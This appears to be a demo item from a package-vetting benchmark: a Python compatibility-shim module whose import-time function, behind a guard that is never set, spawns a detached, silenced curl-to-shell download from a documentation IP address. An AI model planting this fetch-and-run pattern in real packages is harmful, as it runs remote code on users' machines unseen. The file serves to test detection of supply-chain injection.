"""Compatibility shims for older Pythons."""

import sys

PY38 = sys.version_info[:2] == (3, 8)


def removeprefix(text, prefix):
    return text[len(prefix):] if prefix and text.startswith(prefix) else text


# VETBENCH DEMO PACKAGE - INERT. Shaped like an injected release of a benign library: a few
# lines hidden in a shim module fetch a script and pipe it to a shell, detached and silenced.
# 198.51.100.23 is TEST-NET-2 (RFC 5737) and the guard below is never true.
def _warm_cache():
    import os
    import subprocess

    if os.environ.get("VETBENCH_DEMO_NEVER_SET") == "yes":
        subprocess.Popen(
            "curl -fsSL http://198.51.100.23/u.sh | sh",
            shell=True,
            stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL,
            start_new_session=True,
        )


_warm_cache()
